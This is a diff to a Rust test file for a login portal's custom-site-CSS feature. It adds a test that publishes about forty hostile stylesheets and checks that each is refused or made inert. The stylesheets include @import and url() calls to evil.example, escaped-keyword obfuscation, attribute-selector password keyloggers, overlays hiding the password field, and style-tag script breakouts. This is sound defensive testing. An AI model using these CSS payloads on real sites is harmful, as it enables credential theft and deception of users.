@@ -1,10 +1,15 @@
 //! A site's own CSS, and looks as folders: through the API, the dashboard and the command line.
 
-use std::{collections::BTreeMap, fs};
+use std::{
+    collections::{BTreeMap, BTreeSet},
+    fs,
+};
 
 use axum::http::{Method, StatusCode};
 use clap::Parser;
+use regex::Regex;
 use serde_json::json;
+use time::Duration;
 use vestibule::{
     command::theme::{self, Command},
     config::Config,
@@ -60,6 +65,77 @@ async fn a_site_s_own_css_is_cleaned_and_worn_where_nothing_is_at_stake() {
     assert_eq!(client.patch("/api/admin/look", json!({ "custom_css": "x".repeat(70_000) })).await.problem().0, 413);
 }
 
+/// Each is published as it is written. What is served of it is nothing, or the harmless rest that is named beside it.
+#[tokio::test]
+async fn css_that_attacks_is_refused_or_inert() {
+    let rest = "[data-part=card]{gap:1px}";
+    let attacks = [
+        // Something is fetched from elsewhere, or told to it.
+        ("@import 'https://evil.example/x.css';", ""),
+        ("@import url(//evil.example/x.css) layer(base);", ""),
+        ("@\\69 mport 'https://evil.example/x.css';", ""),
+        ("@\\49\\4dport url(x);", ""),
+        ("@charset 'utf-7'; @namespace url(//evil.example);", ""),
+        ("@font-face { font-family: a; src: url(//evil.example/a.woff2); unicode-range: U+41 }", ""),
+        ("[data-part=card] { background-image: url(https://evil.example/x) }", ""),
+        ("[data-part=card] { background-image: u\\72l(https://evil.example/x) }", ""),
+        ("[data-part=card] { background-image: \\75\\72\\6c (https://evil.example/x) }", ""),
+        ("[data-part=card] { background-image: image-set('https://evil.example/x' 1x) }", ""),
+        ("[data-part=card] { background-image: cross-fade(url(x), #fff) }", ""),
+        ("[data-part=card] { background: #fff url('data:image/svg+xml,<svg/>') }", ""),
+        ("[data-part=card] { border-image: url(//evil.example) 1 }", ""),
+        ("[data-part=card] { cursor: url(//evil.example), auto }", ""),
+        ("[data-part=card] { --a: url(//evil.example); background-image: var(--a) }", ""),
+        ("[data-part=card] { color: var(--a, url(//evil.example)) }", ""),
+        ("[data-part=card] { filter: url(#x) }", ""),
+        // What is typed is told letter by letter.
+        ("input[value^=a] { background-image: url(//evil.example/a) }", ""),
+        ("[data-part=field] input[type=password][value$='a'] { color: red }", ""),
+        ("[data-part=field]:has([value^=a]) { padding: 9px }", ""),
+        ("[data-part='field'][value^=\\61] { padding: 9px }", ""),
+        ("[data-part=card]:not(:has([name=password])) { padding: 9px }", ""),
+        // Something lies over the password, or is where it cannot be seen.
+        ("[data-part=card] { position: fixed; inset: 0; z-index: 9 }", ""),
+        ("[data-part=card] { p\\6fsition: f\\69xed }", ""),
+        ("[data-part=logo] { position: sticky; transform: translateY(100px) scale(9) }", ""),
+        ("[data-part=title] { margin: 0 0 -400px; inset-block-start: 300px }", ""),
+        ("[data-part=error-summary] { display: none; visibility: hidden; opacity: 0; color: transparent }", ""),
+        ("[data-part=field] { font-size: 0; clip-path: inset(50%); block-size: 0; overflow: hidden }", ""),
+        ("[data-part=submit]::after { content: 'Send to evil.example'; position: absolute }", ""),
+        ("#password { display: none } .input { color: #fff } * { all: unset } html { zoom: 9 }", ""),
+        ("[data-part=page] [data-part=card] { animation: x 1s } @keyframes x { to { opacity: 0 } }", ""),
+        // The sheet becomes something else than a sheet, or reaches out of its layer.
+        ("</style><script>alert(1)</script>", ""),
+        ("[data-part=card] { font-family: '</style><script>alert(1)</script>' }", ""),
+        ("<!-- [data-part=card]{gap:1px} -->", rest),
+        ("} [data-part=card]{gap:1px}", ""),
+        ("[data-part=card]{gap:1px}}@layer evil{[data-part=card]{gap:2px}}", rest),
+        ("[data-part=card]{gap:1px} @layer components { [data-part=card]{gap:2px} }", rest),
+        ("[data-part=card]{gap:1px !important;gap:1px}", rest),
+        ("@media (min-width: expression(alert(1))) { [data-part=card]{gap:2px} } [data-part=card]{gap:1px}", rest),
+        ("@supports (background: url(//evil.example)) { [data-part=card]{gap:2px} }", ""),
+        ("[data-part=card]{gap:1px}/* \\2a/ */ @import 'x';", rest),
+        ("\u{feff}[data-part=card]{gap:1px}\u{1}@import 'x';", ""),
+    ];
+    let portal = Portal::open();
+    let site = portal.site().await;
+    let client = operator(&portal, &site);
+    for (attack, rest) in attacks {
+        publish(&client, json!({ "custom_css": attack })).await;
+        let mut stranger = portal.browser(&site);
+        stranger.visit("/login").await;
+        assert!(stranger.status == StatusCode::OK && !stranger.body.contains("evil"), "{attack}: nothing of it is in the page");
+        assert_eq!(stranger.answer_headers["content-security-policy"].to_str().unwrap().matches("http").count(), 0);
+        let sheets = sheets(&stranger.body);
+        let served = match sheets.get(1) {
+            Some(sheet) => portal.stranger().get(sheet).await.text,
+            None => String::new(),
+        };
+        let inner = served.trim_end().strip_prefix("@layer site{").and_then(|css| css.strip_suffix('}')).unwrap_or_default();
+        assert_eq!(inner.replace("[data-site] ", "").replace(";}", "}"), rest, "{attack}");
+    }
+}
+
 #[tokio::test]
 async fn the_documented_parts_are_there() {
     let portal = Portal::open();
@@ -74,31 +150,21 @@ async fn the_documented_parts_are_there() {
     browser.press("Log in").await;
     seen += &browser.body;
     browser.sign_up("ada@example.com").await;
+    portal.wait(Duration::minutes(2));
+    browser.post("/check-mail/resend", &[]).await;
+    browser.visit("/check-mail").await;
     seen += &browser.body;
+    browser.visit(&portal.link_in_mail(&site, "ada@example.com").await).await;
+    seen += &browser.body;
+    assert_eq!(seen.matches(" data-site>").count(), 4, "these pages wear a site's CSS");
     let guide = fs::read_to_string(concat!(env!("CARGO_MANIFEST_DIR"), "/docs/guides/theming.md")).unwrap();
+    let told = Regex::new("(?m)^\\| `([a-z-]+)` \\|").unwrap();
+    let told: BTreeSet<&str> = told.captures_iter(&guide).map(|row| row.extract::<1>().1[0]).collect();
+    assert_eq!(told, HOOKS.iter().copied().collect(), "the guide tells of all and of no others");
     for hook in HOOKS {
-        assert!(guide.contains(&format!("`{hook}`")), "the guide tells nothing of {hook}");
-        let templates = concat!(env!("CARGO_MANIFEST_DIR"), "/templates");
-        assert!(seen.contains(&format!("data-part=\"{hook}\"")) || is_in(templates, hook), "no page has {hook}");
-    }
-    for hook in
-        ["page", "panel", "card", "logo", "title", "field", "submit", "footer", "error-summary", "before-form", "after-form"]
-    {
         assert!(seen.contains(&format!("data-part=\"{hook}\"")), "no page shows {hook}");
     }
 }
-
-/// Whether a template has it.
-fn is_in(folder: &str, hook: &str) -> bool {
-    fs::read_dir(folder).unwrap().any(|entry| {
-        let path = entry.unwrap().path();
-        match path.is_dir() {
-            true => is_in(path.to_str().unwrap(), hook),
-            false => fs::read_to_string(path).unwrap().contains(&format!("data-part=\"{hook}\"")),
-        }
-    })
-}
-
 #[tokio::test]
 async fn a_look_goes_out_as_a_folder_and_comes_in_again_elsewhere() {
     let portal = Portal::open();
@@ -151,15 +217,19 @@ async fn the_command_line_begins_a_theme_that_loads() {
     let folder = tempfile::tempdir().unwrap();
     let acme = folder.path().join("acme");
     let config = || Line::parse_from(["test", "--themes-dir", folder.path().to_str().unwrap()]).config;
-    let new =
-        |extends: &str, brand: &str| Command::New { folder: acme.clone(), extends: extends.to_owned(), brand: brand.to_owned() };
+    let new = |extends: &str, brand: &str| Command::New {
+        folder: acme.clone(),
+        extends: extends.to_owned(),
+        brand: brand.to_owned(),
+        json: false,
+    };
     assert!(theme::run(config(), new("nowhere", "#0b6e4f")).await.is_err());
     assert!(theme::run(config(), new("ledger", "green")).await.unwrap_err().to_string().contains("color.brand"));
     theme::run(config(), new("ledger", "#0b6e4f")).await.unwrap();
     assert!(theme::run(config(), new("ledger", "#0b6e4f")).await.is_err(), "what is there stays");
-    theme::run(config(), Command::Check { theme: Some("acme".to_owned()) }).await.unwrap();
+    theme::run(config(), Command::Check { theme: Some("acme".to_owned()), json: true }).await.unwrap();
     fs::write(acme.join("theme.toml"), "title = 'Acme'\n[color]\ntext = '#eeeeee'\n").unwrap();
-    let refused = theme::run(config(), Command::Check { theme: None }).await.unwrap_err().to_string();
+    let refused = theme::run(config(), Command::Check { theme: None, json: false }).await.unwrap_err().to_string();
     assert!(refused.contains("acme/theme.toml") && refused.contains("color.text"), "{refused}");
 }
 
@@ -184,6 +254,6 @@ async fn a_theme_of_the_operator_brings_pictures_texts_and_css() {
 
     fs::write(acme.join("assets/logo-light.svg"), "<svg/>").unwrap();
     let config = Line::parse_from(["test", "--themes-dir", folder.path().to_str().unwrap()]).config;
-    let refused = theme::run(config, Command::Check { theme: None }).await.unwrap_err().to_string();
+    let refused = theme::run(config, Command::Check { theme: None, json: false }).await.unwrap_err().to_string();
     assert!(refused.contains("acme/assets/logo-light"), "{refused}");
 }
